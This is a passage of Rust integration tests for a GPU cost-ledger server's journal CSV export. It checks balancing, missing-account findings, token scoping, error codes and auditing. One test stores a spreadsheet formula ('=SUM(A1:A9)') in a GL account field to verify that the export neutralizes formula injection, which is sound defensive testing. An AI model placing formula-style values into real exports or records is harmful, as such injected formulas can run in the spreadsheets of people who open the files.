           FROM unnest($1::int8[], $2::int8[], $3::timestamptz[], $4::timestamptz[]) WITH ORDINALITY AS u(n, d, s, e, i)
          ORDER BY i",
    )
    .bind(&nums)
    .bind(&dens)
    .bind(&ss)
    .bind(&es)
    .fetch_all(&su)
    .await
    .unwrap();
    for (i, (hours, fraction)) in pg.iter().enumerate() {
        let micros = (es[i] - ss[i]).whole_microseconds();
        let got = gpuledger_server::exports::decimals_for_tests(nums[i], dens[i], micros);
        assert_eq!(got, (hours.clone(), fraction.clone()), "{}/{} over {micros} µs", nums[i], dens[i]);
    }
}

// ---------------------------------------------------------------- journal (issue 35 item 3)

/// The journal's columns, as docs/finance.md documents them.
const JOURNAL_COLUMNS: &str = "entry_date,account,cost_center,department,tenant,debit,credit,currency,memo,close_hash";

/// An exact decimal of a cell (empty: zero).
fn dec(s: &str) -> gpuledger_core::decimal::Decimal {
    if s.is_empty() {
        gpuledger_core::decimal::Decimal::ZERO
    } else {
        gpuledger_core::decimal::Decimal::parse(s).unwrap()
    }
}

/// Sums of the debit and credit columns (exact).
fn journal_sums(
    rows: &[BTreeMap<String, String>],
) -> (gpuledger_core::decimal::Decimal, gpuledger_core::decimal::Decimal) {
    let add = |col: &str| {
        rows.iter().fold(gpuledger_core::decimal::Decimal::ZERO, |a, r| a.checked_add(&dec(&r[col])).unwrap())
    };
    (add("debit"), add("credit"))
}

/// The net of the department rows (debits less credits, the platform's rows left out).
fn departments_net(rows: &[BTreeMap<String, String>]) -> gpuledger_core::decimal::Decimal {
    rows.iter().filter(|r| !r["department"].is_empty()).fold(gpuledger_core::decimal::Decimal::ZERO, |a, r| {
        a.checked_add(&dec(&r["debit"])).unwrap().checked_sub(&dec(&r["credit"])).unwrap()
    })
}

/// Sets a department's accounts through its API.
async fn set_accounts(env: &Env, department: Uuid, body: Value) -> Value {
    ok_json(env, "PATCH", &format!("/api/v1/departments/{department}"), body).await
}

#[tokio::test]
async fn journal_of_a_closed_month_balances_to_its_total_and_flags_missing_accounts() {
    let env = env().await;
    // Research: a GL account a spreadsheet would run as a formula; Platform: no account at all.
    let set = set_accounts(
        &env,
        env.research,
        json!({"cost_center": "CC-100", "gl_account": "=SUM(A1:A9)", "reason": "chart of accounts"}),
    )
    .await;
    assert_eq!((set["cost_center"].as_str(), set["gl_account"].as_str()), (Some("CC-100"), Some("=SUM(A1:A9)")));
    let settings = ok_json(
        &env,
        "PUT",
        "/api/v1/organization/settings",
        json!({"display_name": "Acme", "default_currency": "USD", "retention_months": 84,
               "platform_gl_account": "4900-GPU", "platform_cost_center": "CC-PLAT"}),
    )
    .await;
    assert_eq!(settings["platform_gl_account"], "4900-GPU");
    let listed = get(&env, "/api/v1/departments", &env.admin).await.json();
    let research = listed["items"].as_array().unwrap().iter().find(|d| d["name"] == "Research").unwrap().clone();
    assert_eq!(
        (research["cost_center"].as_str(), research["gl_account"].as_str()),
        (Some("CC-100"), Some("=SUM(A1:A9)"))
    );

    let ledger = get(&env, "/api/v1/ledger?period=2026-09", &env.export).await.json();
    let total = dec(ledger["total"].as_str().unwrap());
    let hash = ledger["hash"].as_str().unwrap().to_string();
    assert!(!total.is_negative() && total.scaled_units() > 0, "{ledger}");

    // -- by department: two debits and the platform's credit; debits = credits = the month's total, exactly
    let a = get(&env, "/api/v1/exports/journal.csv?period=2026-09", &env.export).await;
    let raw = a.text();
    let (header, rows) = csv_of(&a);
    assert_eq!(header.join(","), JOURNAL_COLUMNS);
    assert_eq!(rows.len(), 3, "{rows:?}");
    let (debits, credits) = journal_sums(&rows);
    assert_eq!((debits, credits), (total, total), "{rows:?}");
    for r in &rows {
        assert_eq!((r["entry_date"].as_str(), r["currency"].as_str()), ("2026-09-30", "USD"));
        assert_eq!(r["close_hash"], hash);
        assert_eq!(r["tenant"], "");
        assert!(r["debit"].is_empty() != r["credit"].is_empty(), "one side per row: {r:?}");
        for (k, v) in r {
            assert!(!v.starts_with(FORMULA_START), "{k} = {v:?} starts a formula");
        }
    }
    let row = |dept: &str| rows.iter().find(|r| r["department"] == dept).unwrap_or_else(|| panic!("{dept}: {rows:?}"));
    // the formula-looking account is neutralized, as every text cell of the exports is
    assert_eq!(
        (row("Research")["account"].as_str(), row("Research")["cost_center"].as_str()),
        ("'=SUM(A1:A9)", "CC-100")
    );
    assert!(raw.contains(",\"'=SUM(A1:A9)\",CC-100,Research,"), "{raw}");
    // Platform has no account: its money is still there, the account empty, the memo and the header say so
    let platform = row("Platform");
    assert_eq!((platform["account"].as_str(), platform["cost_center"].as_str()), ("", ""));
    assert!(!platform["debit"].is_empty(), "{platform:?}");
    assert!(platform["memo"].contains("FINDING") && platform["memo"].contains("no gl_account"), "{platform:?}");
    assert!(!row("Research")["memo"].contains("FINDING"), "{:?}", row("Research"));
    let findings = a.header("x-gpuledger-findings");
    assert!(
        findings.contains(&env.platform.to_string()) && !findings.contains(&env.research.to_string()),
        "{findings}"
    );
    let credit = rows.iter().find(|r| r["department"].is_empty()).unwrap();
    assert_eq!((credit["account"].as_str(), credit["cost_center"].as_str()), ("4900-GPU", "CC-PLAT"));
    assert_eq!(dec(&credit["credit"]), total);

    // -- by tenant: a row per tenant within its department (names neutralized), still balanced to the total
    let (_, by_tenant) = csv_of(&get(&env, "/api/v1/exports/journal.csv?period=2026-09&by=tenant", &env.export).await);
    assert_eq!(journal_sums(&by_tenant), (total, total), "{by_tenant:?}");
    assert_eq!(departments_net(&by_tenant), total);
    assert!(by_tenant.len() > rows.len(), "{by_tenant:?}");
    let tenants: BTreeSet<&str> = by_tenant.iter().map(|r| r["tenant"].as_str()).collect();
    for want in ["alpha", &format!("'{EVIL_TENANT}"), &format!("'{OPS_TENANT}")] {
        assert!(tenants.contains(want), "{want} in {tenants:?}");
    }
    let ledger_tenants: BTreeMap<String, i64> =
        ledger["lines"].as_array().unwrap().iter().fold(BTreeMap::new(), |mut m, l| {
            *m.entry(l["tenant"].as_str().unwrap().to_string()).or_default() += cents(l["amount"].as_str().unwrap());
            m
        });
    let alpha = by_tenant.iter().find(|r| r["tenant"] == "alpha").unwrap();
    assert_eq!(cents(&alpha["debit"]), ledger_tenants["alpha"], "{alpha:?}");

    // -- a department-scoped token: its department's rows and a credit balancing those, its own total
    let scoped_total =
        dec(get(&env, "/api/v1/ledger?period=2026-09", &env.export_platform).await.json()["total"].as_str().unwrap());
    let s = get(&env, "/api/v1/exports/journal.csv?period=2026-09", &env.export_platform).await;
    let (_, scoped) = csv_of(&s);
    assert_eq!(scoped.len(), 2, "{scoped:?}");
    assert!(scoped.iter().all(|r| r["department"] == "Platform" || r["department"].is_empty()), "{scoped:?}");
    assert_eq!(journal_sums(&scoped), (scoped_total, scoped_total));
    assert!(scoped_total < total, "{scoped_total} of {total}");
    assert!(!s.text().contains("Research"), "{}", s.text());

    // -- the open month: 409 problem+json naming period and saying to close it first
    let open = get(&env, "/api/v1/exports/journal.csv?period=2026-10", &env.export).await;
    assert_eq!(open.status, StatusCode::CONFLICT, "{}", open.text());
    assert!(open.header("content-type").starts_with("application/problem+json"), "{}", open.header("content-type"));
    let problem = open.json();
    assert!(problem.to_string().contains("\"period\"") && problem.to_string().contains("close it first"), "{problem}");
    // a month not ended: 409 naming period as well; a bad `by`: 422 naming it
    let future = get(&env, "/api/v1/exports/journal.csv?period=2099-01", &env.export).await;
    assert_eq!(future.status, StatusCode::CONFLICT, "{}", future.text());
    assert!(future.text().contains("period"), "{}", future.text());
    let bad = get(&env, "/api/v1/exports/journal.csv?period=2026-09&by=cluster", &env.export).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", bad.text());
    assert!(bad.text().contains("by"), "{}", bad.text());
    // agents read no ledger
    let agent = get(&env, "/api/v1/exports/journal.csv?period=2026-09", &env.agent).await;
    assert_eq!(agent.status, StatusCode::FORBIDDEN, "{}", agent.text());
    // the download is audited with its findings
    let audited: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM audit_log WHERE org_id = $1 AND action = 'export.journal_csv' AND details->'findings' <> '[]'",
    )
    .bind(env.org)
    .fetch_one(&env.su)
    .await
    .unwrap();
    assert!(audited >= 1);

    // -- clearing an account (null) brings the finding back; a control character is refused naming the field
    set_accounts(&env, env.research, json!({"gl_account": null, "reason": "moved"})).await;
    let again = get(&env, "/api/v1/exports/journal.csv?period=2026-09", &env.export).await;
    assert!(
        again.header("x-gpuledger-findings").contains(&env.research.to_string()),
        "{}",
        again.header("x-gpuledger-findings")
    );
    let (_, rows) = csv_of(&again);
    assert_eq!(journal_sums(&rows), (total, total));
    let refused = send(
        &env,
        "PATCH",
        &format!("/api/v1/departments/{}", env.research),
        &bearer(&env.admin),
        Some(json!({"cost_center": "CC\u{7}1", "reason": "x"})),
    )
    .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", refused.text());
    assert!(refused.text().contains("cost_center"), "{}", refused.text());
}

#[tokio::test]
async fn journal_credits_a_department_whose_credits_exceed_its_charges() {
    let env = env().await;
    // Platform's whole September @ops charge is credited back in October, more than Platform's October charges.
    let sept = get(&env, "/api/v1/ledger?period=2026-09", &env.export_platform).await.json();
    let ops = sept["lines"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["tenant"] == OPS_TENANT)
        .max_by_key(|l| cents(l["amount"].as_str().unwrap()))
        .unwrap()
        .clone();
    let d = ok_json(
        &env,
        "POST",
        "/api/v1/disputes",
        json!({"period": "2026-09", "line_ids": [ops["line_id"]], "reason": "the node was down"}),
    )
    .await;
    let id = d["id"].as_str().unwrap().to_string();
    ok_json(
        &env,
        "POST",
        &format!("/api/v1/disputes/{id}/accept"),
        json!({"reason": "down", "credit_amount": ops["amount"]}),
    )
    .await;
    let session = vec![
        ("cookie", format!("gl_session={}", env.cookie)),
        ("x-csrf-token", session::csrf_for(&env.cookie)),
        ("host", "localhost".to_string()),
    ];
    let a = send(&env, "POST", &format!("/api/v1/disputes/{id}/credit/approve"), &session, Some(json!({}))).await;
    assert!(a.status.is_success(), "{} {}", a.status, a.text());
    ok_json(&env, "POST", "/api/v1/periods/2026-10/close", json!({})).await;

    let oct = get(&env, "/api/v1/ledger?period=2026-10", &env.export_platform).await.json();
    let platform_total = dec(oct["total"].as_str().unwrap());
    assert!(platform_total.is_negative(), "the test needs Platform below zero in October: {oct}");
    let total = dec(get(&env, "/api/v1/ledger?period=2026-10", &env.export).await.json()["total"].as_str().unwrap());

    set_accounts(&env, env.platform, json!({"cost_center": "CC-200", "gl_account": "6200", "reason": "coa"})).await;
    let (_, rows) = csv_of(&get(&env, "/api/v1/exports/journal.csv?period=2026-10", &env.export).await);
    let platform = rows.iter().find(|r| r["department"] == "Platform").unwrap();
    assert!(platform["debit"].is_empty(), "{platform:?}");
    assert_eq!(dec(&platform["credit"]), gpuledger_core::decimal::Decimal::ZERO.checked_sub(&platform_total).unwrap());
    let (debits, credits) = journal_sums(&rows);
    assert_eq!(debits, credits, "{rows:?}");
    assert_eq!(departments_net(&rows), total, "{rows:?}");
    for r in &rows {
        assert_eq!(r["entry_date"], "2026-10-31");
    }

    // the Platform-scoped token: its negative department is balanced by a platform debit
    let (_, scoped) = csv_of(&get(&env, "/api/v1/exports/journal.csv?period=2026-10", &env.export_platform).await);
    assert_eq!(scoped.len(), 2, "{scoped:?}");
    let balancing = scoped.iter().find(|r| r["department"].is_empty()).unwrap();
    assert_eq!(dec(&balancing["debit"]), gpuledger_core::decimal::Decimal::ZERO.checked_sub(&platform_total).unwrap());
    assert!(balancing["credit"].is_empty());
    assert_eq!(journal_sums(&scoped).0, journal_sums(&scoped).1);
}
